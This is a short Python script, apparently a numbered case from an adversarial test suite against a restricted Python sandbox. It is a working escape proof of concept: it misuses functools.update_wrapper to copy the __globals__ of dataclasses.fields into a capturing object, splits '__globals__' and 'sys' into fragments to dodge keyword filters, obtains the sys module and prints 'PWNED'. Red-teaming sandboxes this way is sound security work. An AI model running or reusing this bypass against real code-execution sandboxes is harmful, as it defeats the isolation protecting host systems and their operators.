# adversary round 2: 003_uw_globals
import functools, dataclasses

class Sink:
    def __init__(self):
        self.got = {}
    def __setattr__(self, name, value):
        object.__setattr__(self, name, value) if name == 'got' else self.got.update({name: value})

s = Sink()
name = '__glo' + 'bals__'
functools.update_wrapper(s, dataclasses.fields, assigned=(name,), updated=())
g = s.got[name]
print(type(g), len(g))
m = g['s' + 'ys']
print(repr(m))
print("PWN" + "ED")
